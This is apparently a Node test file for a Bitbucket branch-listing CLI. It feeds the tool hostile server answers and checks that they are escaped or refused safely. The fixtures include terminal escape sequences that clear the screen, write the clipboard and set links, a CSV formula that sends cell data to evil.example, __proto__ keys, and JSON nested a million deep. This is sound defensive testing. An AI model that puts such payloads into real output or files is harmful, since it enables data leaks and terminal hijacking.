// Well-formed answers whose content is wrong or means harm.
import assert from 'node:assert/strict';
import { describe, type TestContext, test } from 'node:test';
import { quote } from 'shell-quote';
import { run } from '../../src/cli/run.ts';
import { createHttpClient } from '../../src/system/http.ts';
import { testContext } from '../helpers/context.ts';
import { startProgram } from '../helpers/program.ts';
import { answerOf, jsonAnswer, type RawAnswer, startRawServer } from '../helpers/raw-server.ts';
import { builtProgram, createHome } from '../helpers/spawn-cli.ts';

const token = 'the-secret-token';

/** Cursor movement, a title, a clipboard write, a link, 8-bit controls, turned-around text, and separate lines. */
const steering =
  'a\u001b[2Jb\u001b]0;title\u0007c\u001b]52;c;ZXZpbA==\u0007d\u001b]8;;http://evil.example\u001b\\e' +
  '\u009b31mf\u202eg\u2066h\u061ci\u2028j\rk\nl\u0000m\u007fn\bo\to';
/** None of it may reach a terminal as it is. */
const harmful = /[\p{Bidi_Control}\p{Zl}\p{Zp}]|(?![\n\t])\p{Cc}/u;

const longest = JSON.parse('[1e308]')[0];

/** Values of each type that JSON has; where one is right, it is left out. */
const wrongValues: Readonly<Record<string, unknown>> = {
  'a number': 7,
  'a huge number': longest,
  'a fraction': 0.5,
  'a negative number': -1,
  'a string': 'text',
  'an empty string': '',
  'a boolean': true,
  'a list': ['x'],
  'an object': { x: 1 },
  null: null,
};

interface Document {
  readonly kind: 'cloud' | 'datacenter';
  /** The answer with one value in it put in another's place. */
  readonly with: (value: unknown) => unknown;
}

const commit = { hash: 'abc', date: '2026-01-01T00:00:00Z', message: 'm', author: { raw: 'A' } };
const cloudBranch = { name: 'main', target: commit, links: { html: { href: 'https://h/x' } } };
const metadataKey = 'com.atlassian.bitbucket.server.bitbucket-branch:latest-commit-metadata';
const metadata = { authorTimestamp: 1_700_000_000_000, author: { name: 'A' }, message: 'm' };
const serverBranch = {
  displayId: 'main',
  latestCommit: 'abc',
  isDefault: true,
  metadata: { [metadataKey]: metadata },
};

const cloud = (change: (value: unknown) => object): Document => ({
  kind: 'cloud',
  with: (value) => ({ values: [{ ...cloudBranch, ...change(value) }] }),
});
const server = (change: (value: unknown) => object): Document => ({
  kind: 'datacenter',
  with: (value) => ({ values: [{ ...serverBranch, ...change(value) }], isLastPage: true }),
});
const serverMetadata = (change: (value: unknown) => object) =>
  server((value) => ({ metadata: { [metadataKey]: { ...metadata, ...change(value) } } }));

/** Every value that the program reads of a page of branches. */
const documents: Readonly<Record<string, Document>> = {
  'the page': { kind: 'cloud', with: (value) => value },
  values: { kind: 'cloud', with: (values) => ({ values }) },
  next: { kind: 'cloud', with: (next) => ({ values: [cloudBranch], next }) },
  size: { kind: 'cloud', with: (size) => ({ values: [cloudBranch], size }) },
  pagelen: { kind: 'cloud', with: (pagelen) => ({ values: [cloudBranch], size: 9, pagelen }) },
  'a branch': { kind: 'cloud', with: (value) => ({ values: [value] }) },
  name: cloud((name) => ({ name })),
  target: cloud((target) => ({ target })),
  hash: cloud((hash) => ({ target: { ...commit, hash } })),
  date: cloud((date) => ({ target: { ...commit, date } })),
  message: cloud((message) => ({ target: { ...commit, message } })),
  author: cloud((author) => ({ target: { ...commit, author } })),
  raw: cloud((raw) => ({ target: { ...commit, author: { raw } } })),
  user: cloud((user) => ({ target: { ...commit, author: { user } } })),
  display_name: cloud((display_name) => ({
    target: { ...commit, author: { user: { display_name } } },
  })),
  links: cloud((links) => ({ links })),
  html: cloud((html) => ({ links: { html } })),
  href: cloud((href) => ({ links: { html: { href } } })),
  'Data Center: the page': { kind: 'datacenter', with: (value) => value },
  'Data Center: values': { kind: 'datacenter', with: (values) => ({ values, isLastPage: true }) },
  isLastPage: {
    kind: 'datacenter',
    with: (isLastPage) => ({ values: [serverBranch], isLastPage }),
  },
  nextPageStart: {
    kind: 'datacenter',
    with: (nextPageStart) => ({ values: [serverBranch], isLastPage: false, nextPageStart }),
  },
  limit: {
    kind: 'datacenter',
    with: (limit) => ({ values: [serverBranch], isLastPage: true, limit }),
  },
  displayId: server((displayId) => ({ displayId })),
  latestCommit: server((latestCommit) => ({ latestCommit })),
  isDefault: server((isDefault) => ({ isDefault })),
  default: server((flag) => ({ default: flag })),
  metadata: server((value) => ({ metadata: value })),
  'the metadata of a commit': server((value) => ({ metadata: { [metadataKey]: value } })),
  authorTimestamp: serverMetadata((authorTimestamp) => ({ authorTimestamp })),
  'Data Center: author': serverMetadata((author) => ({ author })),
  'Data Center: author name': serverMetadata((name) => ({ author: { name } })),
  displayName: serverMetadata((displayName) => ({ author: { displayName } })),
  'Data Center: message': serverMetadata((message) => ({ message })),
};

/** Each place that is read, with a value of each type. */
const combinationCount = 340;

test('a value of any type in the place of any that is read is taken or refused, and breaks nothing', async (t) => {
  let document: unknown;
  const host = await startRawServer(t, () => jsonAnswer(document));
  const http = createHttpClient({ userAgent: 'test', interrupted: new AbortController().signal });
  let combinations = 0;
  for (const [place, { kind, with: withValue }] of Object.entries(documents)) {
    for (const [type, value] of Object.entries(wrongValues)) {
      document = withValue(value);
      const context = testContext({
        http,
        env: { BITBRANCH_TOKEN: token, BITBRANCH_HOST: host.url, BITBRANCH_KIND: kind },
      });
      const exitCode = await run(['branches', 'acme/site', '--json', '--max-wait', '0s'], context);
      const told = `${place} is ${type}: ${context.printed.stderr}`;
      assert.ok([0, 3, 6].includes(exitCode), told);
      if (exitCode === 0) JSON.parse(context.printed.stdout);
      else assert.match(JSON.parse(context.printed.stderr).error.message, /\w/, told);
      combinations += 1;
    }
  }
  assert.equal(combinations, combinationCount);
  t.diagnostic(`${combinations} answers with a value of another type`);
});

/** Asks with a token, on a pseudo-terminal or into pipes. */
async function commandAt(t: TestContext, answer: RawAnswer, command: readonly string[]) {
  const home = await createHome(t);
  const host = await startRawServer(t, () => answer);
  const all = [...command, '--host', host.url, '--kind', 'cloud', '--max-wait', '0s'];
  const env = { BITBRANCH_TOKEN: token };
  return {
    piped: () => home.run(all, { env }),
    onTerminal: () =>
      startProgram(
        t,
        [
          'script',
          '--quiet',
          '--return',
          '--command',
          quote([process.execPath, builtProgram, ...all]),
          '/dev/null',
        ],
        {
          env: {
            ...home.env,
            ...env,
            TERM: 'xterm',
            SHELL: '/bin/sh',
            NO_COLOR: '1',
            FORCE_HYPERLINK: '1',
          },
        },
      ).ended,
  };
}

function branchesAt(t: TestContext, answer: RawAnswer, args: readonly string[] = []) {
  return commandAt(t, answer, ['branches', 'acme/site', ...args]);
}

const steeringBranch = {
  name: steering,
  target: {
    hash: steering,
    date: '2026-01-01T00:00:00Z',
    message: steering,
    author: { raw: steering, user: { display_name: steering } },
  },
  links: { html: { href: `https://h/${steering}` } },
};
const steeringPage = jsonAnswer({ values: [steeringBranch] });

describe('text that could steer a terminal', { concurrency: 3 }, () => {
  for (const format of ['table', 'tsv', 'names', 'json', 'jsonl', 'csv']) {
    test(`is spelled out on a terminal as ${format}`, async (t) => {
      const { onTerminal } = await branchesAt(t, steeringPage, ['--format', format]);
      const { exitCode, stdout } = await onTerminal();
      assert.equal(exitCode, 0, stdout);
      const shown = stdout.replace(/\r+\n/g, '\n');
      assert.doesNotMatch(shown, harmful);
      assert.match(shown, /\\u001b\[2J/);
    });
  }

  for (const format of ['json', 'jsonl']) {
    test(`comes whole through ${format}, which is safe to look at as well`, async (t) => {
      const { piped } = await branchesAt(t, steeringPage, ['--format', format]);
      const { exitCode, stdout } = await piped();
      assert.equal(exitCode, 0);
      assert.doesNotMatch(stdout, harmful);
      const [branch] = [JSON.parse(stdout)].flat();
      assert.equal(branch.name, steering);
      assert.equal(branch.author, steering);
      assert.equal(branch.hash, steering);
    });
  }

  test('comes back from tsv by the escapes that the format has', async (t) => {
    const { piped } = await branchesAt(t, steeringPage, ['--format', 'tsv']);
    const { stdout } = await piped();
    assert.equal(stdout.trimEnd().split('\n').length, 1);
    const [name = ''] = stdout.split('\t');
    assert.equal(JSON.parse(`"${name}"`), steering);
  });

  const errors: Readonly<Record<string, RawAnswer>> = {
    'in the reason of a refusal': answerOf(403, JSON.stringify({ error: { message: steering } })),
    'in the reason of a failure': answerOf(500, JSON.stringify({ error: { message: steering } })),
    'in a list of permissions': answerOf(
      403,
      JSON.stringify({ error: { message: 'x', detail: { required: [steering], granted: [] } } }),
    ),
    'in a challenge': answerOf(401, '{}', `WWW-Authenticate: OAuth oauth_problem="a\u009b31mb"`),
    'in an address': answerOf(302, '', 'Location: http://x\u009b31m.example/'),
  };
  for (const [place, answer] of Object.entries(errors)) {
    test(`is spelled out ${place}`, async (t) => {
      const { onTerminal } = await branchesAt(t, answer, ['--verbose']);
      const { exitCode, stdout } = await onTerminal();
      assert.ok(exitCode !== 0 && exitCode !== 1, stdout);
      assert.doesNotMatch(stdout.replace(/\r+\n/g, '\n'), harmful);
    });
  }
});

test('a date that could steer a terminal is none', async (t) => {
  const dated = jsonAnswer({ values: [{ name: 'main', target: { date: steering } }] });
  const { piped } = await branchesAt(t, dated, ['--json=name,date']);
  const { exitCode, stdout } = await piped();
  assert.deepEqual([exitCode, JSON.parse(stdout)], [0, [{ name: 'main', date: null }]]);
});

describe('an answer that bitbranch api passes on', { concurrency: 3 }, () => {
  const body = `{"a":"${steering}"}\r\n`;
  const answer = answerOf(200, body, 'X-Steering: a\u009b31mb');
  const document = answerOf(200, JSON.stringify({ a: steering }));
  for (const [flags, given] of [
    [[], answer],
    [['--include'], answer],
    // Which passes on documents only.
    [['--paginate'], document],
  ] as const) {
    test(`is spelled out on a terminal with ${flags.join() || 'no flag'}`, async (t) => {
      const { onTerminal } = await commandAt(t, given, ['api', '/2.0/x', ...flags]);
      const { exitCode, stdout } = await onTerminal();
      assert.equal(exitCode, 0, stdout);
      assert.doesNotMatch(stdout.replace(/\r+\n/g, '\n'), harmful);
      assert.match(stdout, /\\u001b\[2J/);
    });
  }

  test('is the same in a pipe', async (t) => {
    const { piped } = await commandAt(t, answer, ['api', '/2.0/x']);
    assert.equal((await piped()).stdout, body);
  });

  test('may be nested a million deep, but not be put together with others', async (t) => {
    const deep = `{"values":[${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}]}`;
    const { piped } = await commandAt(t, answerOf(200, deep), ['api', '/2.0/x', '--paginate']);
    const { exitCode, stdout, stderr } = await piped();
    assert.deepEqual([exitCode, stdout], [6, '']);
    assert.match(stderr, /is not understood/);
  });
});

describe('a document that means harm', { concurrency: 3 }, () => {
  const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
  const rows: readonly (readonly [
    what: string,
    body: string,
    exitCode: number,
    printed: RegExp,
  ])[] = [
    ['a document nested a million deep', nested(1_000_000), 6, /is not understood/],
    ['values nested a million deep', `{"values":[${nested(1_000_000)}]}`, 6, /is not understood/],
    [
      'a name nested a million deep',
      `{"values":[{"name":${nested(1_000_000)}}]}`,
      6,
      /is not understood/,
    ],
    [
      'a prototype for the page',
      '{"__proto__":{"values":[{"name":"x"}]}}',
      6,
      /"values" is missing/,
    ],
    ['a prototype for a branch', '{"values":[{"__proto__":{"name":"x"}}]}', 6, /"name" is missing/],
    [
      'names of the prototype',
      '{"values":[{"name":"__proto__"},{"name":"constructor"},{"name":"toString"}]}',
      0,
      /^__proto__\nconstructor\ntoString\n$/,
    ],
    ['a key given twice', '{"values":[],"values":[{"name":"last"}]}', 0, /^last\n$/],
    ['names with lone surrogates', '{"values":[{"name":"a\\ud800b"}]}', 0, /^a\ufffdb\n$/],
    [
      'names that look like flags',
      '{"values":[{"name":"--help"},{"name":"-rf"}]}',
      0,
      /^--help\n-rf\n$/,
    ],
    [
      'a name of a mebibyte',
      JSON.stringify({ values: [{ name: 'n'.repeat(2 ** 20) }] }),
      0,
      /^n{1000}/,
    ],
    [
      'a size beyond all numbers',
      '{"values":[{"name":"x"}],"size":1e999}',
      6,
      /"size" is a number/,
    ],
  ];
  for (const [what, body, exitCode, printed] of rows) {
    test(what, async (t) => {
      const { piped } = await branchesAt(t, answerOf(200, body), ['--format', 'names']);
      const result = await piped();
      assert.equal(result.exitCode, exitCode, result.stderr);
      assert.match(exitCode === 0 ? result.stdout : result.stderr, printed);
    });
  }

  test('bytes that are no UTF-8 become the replacement character', async (t) => {
    const body = Buffer.from('{"values":[{"name":"a\xffb"}]}', 'latin1');
    const { piped } = await branchesAt(t, answerOf(200, body), ['--format', 'names']);
    assert.equal((await piped()).stdout, 'a\ufffdb\n');
  });
});

/** What a spreadsheet would run, in the cells of every column. */
const formula = '=HYPERLINK("http://evil.example?"&A1,"x")';

for (const [flags, cell] of [
  [['--csv-safe'], `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  [[], `"=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
] as const) {
  test(`a formula in csv ${flags.length === 0 ? 'is as it is' : 'is none with --csv-safe'}`, async (t) => {
    const page = jsonAnswer({ values: [{ name: formula }, { name: '-1' }, { name: '@x' }] });
    const { piped } = await branchesAt(t, page, ['--format', 'csv', ...flags]);
    const { exitCode, stdout, stderr } = await piped();
    assert.equal(exitCode, 0, stderr);
    const cells = stdout.split('\r\n').slice(1, -1);
    assert.ok(cells[0]?.startsWith(cell), stdout);
    if (flags.length > 0)
      assert.ok(
        cells.every((line) => /^"?'/.test(line)),
        stdout,
      );
  });
}
